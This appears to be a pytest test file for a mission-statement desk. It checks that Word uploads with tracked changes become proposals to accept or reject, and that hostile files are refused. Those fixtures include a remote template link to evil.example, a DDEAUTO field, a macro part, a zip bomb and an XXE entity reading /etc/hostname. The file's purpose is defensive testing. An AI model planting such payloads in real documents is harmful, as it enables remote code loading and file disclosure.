"""An edited Word file of the statement comes back to the desk: what it proposes, and what is refused."""

from __future__ import annotations

import copy
import html
import io
import re
import zipfile
from collections.abc import Callable

import pytest
from desks import SLUG, Desk
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from ieom.records.statements import StatementVersion
from ieom.rules.statement import paragraph_text

PAGE = f"/missions/{SLUG}/statement"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def keys(row: StatementVersion) -> list[str]:
    return [one["key"] for one in row.content["paragraphs"]]


def edited(desk: Desk, change: Callable[[dict], None]) -> bytes:
    """The file that the desk gives, changed in Word: `change` gets its paragraphs by their keys."""
    paper = Document(io.BytesIO(desk.drafter.get(f"{PAGE}/docx").content))
    found = {}
    for one in paper.paragraphs:
        for mark in one._p.iter(qn("w:bookmarkStart")):
            found[mark.get(qn("w:name")).removeprefix("p_")] = one
    change(found)
    out = io.BytesIO()
    paper.save(out)
    return out.getvalue()


def run(text: str, tag: str = "w:t"):
    made, words = OxmlElement("w:r"), OxmlElement(tag)
    words.text = text
    words.set(qn("xml:space"), "preserve")
    made.append(words)
    return made


def tracked(paragraph, old: str, new: str, author: str = "A reader") -> None:
    """Word's own marks for one text put in the place of another."""
    there = next(one for one in paragraph._p.iter(qn("w:r")) if old in one.text)
    before, _, after = there.text.partition(old)
    made = [run(before)]
    for tag, words, text in (("w:del", "w:delText", old), ("w:ins", "w:t", new)):
        mark = OxmlElement(tag)
        mark.set(qn("w:author"), author)
        mark.set(qn("w:id"), "901")
        mark.append(run(text, words))
        made.append(mark)
    made.append(run(after))
    for one in reversed(made):
        there.addnext(one)
    there.getparent().remove(there)


def send(desk: Desk, data: bytes, name: str = "statement.docx", who: str = "drafter"):
    return getattr(desk, who).post(f"{PAGE}/word", files={"document": (name, data, WORD)})


def take(desk: Desk, row: StatementVersion, number: int, *changes: int):
    data = {"number": str(number), "seen": row.content_hash, "change": [str(one) for one in changes]}
    return desk.drafter.post(f"{PAGE}/word/take", data)


def test_a_file_that_was_not_edited_proposes_nothing(desk_asked: Desk) -> None:
    assert "proposes nothing" in send(desk_asked, edited(desk_asked, lambda found: None)).text


def test_a_tracked_change_is_taken_or_left_as_a_whole(desk_asked: Desk, version) -> None:
    before = version()
    text = paragraph_text(before.content, "conclusion")
    data = edited(
        desk_asked,
        lambda found: tracked(found["conclusion"], "open and transparent", "open, transparent and exemplary"),
    )
    page = send(desk_asked, data).text
    assert re.findall(r'name="change" value="(\d+)"', page) == ["0"]
    take(desk_asked, before, 0, 0)
    taken = paragraph_text(version().content, "conclusion")
    assert taken == text.replace("open and transparent", "open, transparent and exemplary")


def beside(data: bytes) -> dict[str, list[str]]:
    """Its comments by the paragraph beside which they stand; '' is the title."""
    paper, found = Document(io.BytesIO(data)), {}
    said = {one.comment_id: one.text for one in paper.comments}
    for one in paper.paragraphs:
        marks = [mark.get(qn("w:name")).removeprefix("p_") for mark in one._p.iter(qn("w:bookmarkStart"))]
        about = [said[int(ref.get(qn("w:id")))] for ref in one._p.iter(qn("w:commentReference"))]
        if about:
            found[marks[0] if marks else ""] = about
    return found


def test_what_a_paragraph_rests_on_and_what_is_to_be_mended_stand_beside_it(desk_asked: Desk, version) -> None:
    desk = desk_asked
    edit = {"paragraph": "courtesy", "text": "The vote was free and fair.", "begun": version().content_hash}
    desk.drafter.post(f"{PAGE}/edit", edit)
    data = desk.drafter.get(f"{PAGE}/docx").content
    found = beside(data)
    rests, *mend = found["courtesy"]
    assert "rests on nothing recorded" in rests
    assert any("'free and fair' is more than a mission can observe" in one for one in mend)
    assert all(one.startswith("To mend: ") for one in mend)
    assert "2. borne out · 2 of 2 visits, 1 station" in found["voting"][0]
    page = " ".join(html.unescape(re.sub(r"<[^>]+>", " ", desk.drafter.get(PAGE).text)).split())
    for line in (line for about in found.values() for one in about for line in one.split("\n")):
        told = re.sub(r"^(\d+\. )?(To mend: )?", "", line)
        assert all(" ".join(part.split()) in page for part in re.split(" · |, ", told)), line
    paper = Document(io.BytesIO(data))
    assert {(one.author, one.timestamp) for one in paper.comments} == {
        ("Record of the mission", version().at.replace(microsecond=0))
    }
    assert data == desk.drafter.get(f"{PAGE}/docx").content
    assert "proposes nothing" in send(desk, edited(desk, lambda found: None)).text


def test_tracked_changes_are_proposals_to_take_one_by_one(desk_asked: Desk, version) -> None:
    before = version()
    first = paragraph_text(before.content, "voting").split()

    def change(found) -> None:
        tracked(found["voting"], first[1], "Delegation")
        tracked(found["voting"], first[-1], "officials of <b>all</b> commissions.")

    page = send(desk_asked, edited(desk_asked, change)).text
    assert "1 change; none is taken yet" in page
    assert "by A reader" in page
    assert f"<del>{first[1]}</del><ins>Delegation</ins>" in page
    assert "<b>all" not in page
    assert version().number == before.number
    taken = take(desk_asked, before, 0, 0)
    assert "Taken: version" in taken.text
    assert paragraph_text(version().content, "voting") == " ".join([first[0], "Delegation", *first[2:]])
    assert "Nothing waits for an answer" in taken.text


def test_untracked_changes_new_and_removed_paragraphs_are_shown(desk_asked: Desk, version) -> None:
    before = version()

    def change(found) -> None:
        found["opening"].runs[0].text += " So it was."
        fresh = copy.deepcopy(found["opening"]._p)
        for mark in (*fresh.iter(qn("w:bookmarkStart")), *fresh.iter(qn("w:bookmarkEnd"))):
            mark.getparent().remove(mark)
        next(fresh.iter(qn("w:t"))).text = "A paragraph that nobody had before."
        found["opening"]._p.addnext(fresh)
        found["courtesy"]._p.getparent().remove(found["courtesy"]._p)

    page = html.unescape(send(desk_asked, edited(desk_asked, change)).text)
    assert "3 changes; none is taken yet" in page
    assert "changed without tracking" in page
    assert re.search(r"A new paragraph, after Paragraph \d+: On election day, the Mission attended the opening", page)
    assert "Taken out: Paragraph " in page
    for number in (0, 1, 2):
        assert "Taken: version" in take(desk_asked, version(), number, 0).text
    now = version()
    assert paragraph_text(now.content, "opening").endswith("So it was.")
    assert keys(now)[keys(now).index("opening") + 1] == "added"
    assert "courtesy" not in keys(now)
    assert now.number == before.number + 3


def test_an_older_file_takes_nothing_back_that_was_changed_since(desk_asked: Desk, version) -> None:
    data = edited(desk_asked, lambda found: tracked(found["courtesy"], "sincere", "true"))
    row = version()
    for key, text in (
        ("voting", "Edited at the desk."),
        ("courtesy", paragraph_text(row.content, "courtesy") + " Gladly."),
    ):
        desk_asked.drafter.post(f"{PAGE}/edit", {"paragraph": key, "begun": version().content_hash, "text": text})
    page = send(desk_asked, data).text
    assert f"made from version {row.number}" in page
    assert "1 change; none is taken yet" in page
    assert "was changed here since the file was made" in page
    assert paragraph_text(version().content, "voting") == "Edited at the desk."


def test_a_paragraph_that_was_struck_since_is_no_proposal_of_a_file_that_left_it_alone(
    desk_asked: Desk, version
) -> None:
    def change(found) -> None:
        tracked(found["voting"], "Mission", "Delegation")
        for mark in list(found["courtesy"]._p.iter(qn("w:bookmarkStart"), qn("w:bookmarkEnd"))):
            mark.getparent().remove(mark)  # as some programs do when they save

    before, data = version(), edited(desk_asked, change)
    struck = {"paragraph": "courtesy", "begun": before.content_hash, "remove": "true"}
    desk_asked.drafter.post(f"{PAGE}/edit", struck)
    assert "courtesy" not in keys(version())
    page = html.unescape(send(desk_asked, data).text)
    assert "1 change; none is taken yet" in page
    assert "A new paragraph" not in page


def test_a_proposal_is_taken_only_beside_the_text_that_was_seen(desk_asked: Desk, version) -> None:
    seen = version()
    send(desk_asked, edited(desk_asked, lambda found: tracked(found["voting"], "Mission", "Delegation")))
    desk_asked.coordinator.post(f"{PAGE}/edit", {"paragraph": "voting", "begun": seen.content_hash, "text": "Another."})
    late = take(desk_asked, seen, 0, 0)
    assert late.status_code == 422
    assert "look at the proposal again" in late.text
    assert paragraph_text(version().content, "voting") == "Another."


def test_a_proposal_is_left_and_the_rest_stays_for_its_sender_alone(desk_asked: Desk, version) -> None:
    def change(found) -> None:
        tracked(found["voting"], "Mission", "Delegation")
        tracked(found["opening"], "Mission", "Delegation")

    send(desk_asked, edited(desk_asked, change))
    assert "Nothing waits" in desk_asked.coordinator.get(f"{PAGE}/word").text
    page = desk_asked.drafter.post(f"{PAGE}/word/leave", {"number": "0"}).text
    assert re.search(r"1\s+proposal of statement.docx", page)
    assert "waits for your answer" in desk_asked.drafter.get(PAGE).text
    assert desk_asked.drafter.post(f"{PAGE}/word/leave", {"number": "0"}).status_code == 404
    assert "Nothing waits" in desk_asked.drafter.post(f"{PAGE}/word/leave", {"number": "-1"}).text


def put(data: bytes, **parts: bytes | Callable[[bytes], bytes]) -> bytes:
    """The file with parts changed or added: their names with '__' for '/'."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        there = {name: old.read(name) for name in old.namelist()}
        for name, part in parts.items():
            path = {
                "types": "[Content_Types].xml",
                "rels": "word/_rels/document.xml.rels",
                "text": "word/document.xml",
            }.get(name, name.replace("__", "/"))
            there[path] = part(there[path]) if callable(part) else part
        for name, content in there.items():
            new.writestr(name, content)
    return out.getvalue()


OUTSIDE = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
FIELD = b'<w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\x "y"</w:instrText></w:r></w:p>'


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (lambda data: put(data, word__vbaProject=b"x", **{"word__vbaProject.bin": b"x"}), "macros"),
        (lambda data: put(data, types=lambda old: old.replace(b"document.main+xml", b"document.macroEnabled.main+xml")), "macros"),
        (lambda data: put(data, rels=lambda old: old.replace(b"</Relationships>", OUTSIDE)), "links to something outside"),
        (lambda data: put(data, text=lambda old: old.replace(b"<w:body>", FIELD)), "fetches something from elsewhere"),
        (lambda data: put(data, word__bomb=b"\0" * 70_000_000), "unpacks to far more"),
        (lambda data: put(data, text=lambda old: old[:400]), "can't be read as a Word document"),
        (lambda data: put(data, text=lambda old: old.replace(b'w:name="p_', b'w:name="q_')), "none of the statement's marks"),
        (lambda data: b"<html><script>alert(1)</script></html>", "is not a Word document"),
        (lambda data: b"", "is empty"),
    ],
    ids=["macros", "macros by its kind", "link outside", "field", "bomb", "cut off", "another document", "web page", "empty"],
)  # fmt: skip
def test_a_file_that_could_do_more_than_be_read_is_refused(desk_asked: Desk, version, change, says: str) -> None:
    before = version().number
    answer = send(desk_asked, change(desk_asked.drafter.get(f"{PAGE}/docx").content))
    assert answer.status_code == 422
    assert says in html.unescape(answer.text)
    assert version().number == before
    assert "Nothing waits" in desk_asked.drafter.get(f"{PAGE}/word").text


def test_entities_are_not_expanded(desk_asked: Desk) -> None:
    def laughing(old: bytes) -> bytes:
        start = old.index(b"<w:document")
        return (
            old[:start]
            + b'<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
            + old[start:].replace(b"</w:t>", b"&a;</w:t>", 1)
        )

    answer = send(desk_asked, put(desk_asked.drafter.get(f"{PAGE}/docx").content, text=laughing))
    assert answer.status_code == 422


def test_only_who_drafts_brings_a_file(desk_asked: Desk) -> None:
    data = desk_asked.drafter.get(f"{PAGE}/docx").content
    for who in ("delegation_member", "auditor", "head_of_mission", "press_officer"):
        assert send(desk_asked, data, who=who).status_code == 403
